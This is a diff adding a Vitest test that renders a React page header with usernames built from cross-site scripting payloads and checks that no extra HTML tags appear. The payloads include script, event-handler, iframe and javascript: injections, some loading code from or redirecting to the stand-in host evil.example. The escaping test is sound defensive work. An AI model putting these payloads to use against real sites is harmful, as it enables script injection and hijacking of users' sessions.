@@ -1,0 +1,33 @@
+import { renderToStaticMarkup } from 'react-dom/server';
+import { expect, test } from 'vitest';
+import { Header } from './header.tsx';
+
+const headerFor = (username: string): string =>
+  renderToStaticMarkup(<Header pathname="/regles" search="" username={username} />);
+
+const tagsOf = (html: string): readonly string[] => html.match(/<[^>]*>/g) ?? [];
+
+const QUIET = tagsOf(headerFor('Ada'));
+
+const SCRIPTS = ['alert(1)', 'import("//evil.example")', 'fetch(`/`)', 'location="//evil.example"'];
+const WRAPPERS = [
+  (script: string) => `<script>${script}</script>`,
+  (script: string) => `</script><script>${script}</script>`,
+  (script: string) => `<img src=x onerror=${script}>`,
+  (script: string) => `<svg/onload=${script}>`,
+  (script: string) => `"onmouseover=${script} x="`,
+  (script: string) => `'onfocus=${script} autofocus='`,
+  (script: string) => `</bdi></span><iframe srcdoc="<script>${script}</script>">`,
+  (script: string) => `<a href="javascript:${script}">x</a>`,
+  (script: string) => `--><script>${script}</script><!--`,
+  (script: string) => `]]><script>${script}</script>`,
+  (script: string) => `{{${script}}}`,
+  (script: string) => `\${${script}}`,
+  (script: string) => `&lt;script&gt;${script}`,
+  (script: string) => `<style>*{background:url(//evil.example/${script})}`,
+  (script: string) => `\u202e<script>${script}</script>\u2066`,
+];
+
+test.each(SCRIPTS.flatMap(script => WRAPPERS.map(wrap => [wrap(script)])))('the name %s is only text', username => {
+  expect(tagsOf(headerFor(username))).toEqual(QUIET);
+});
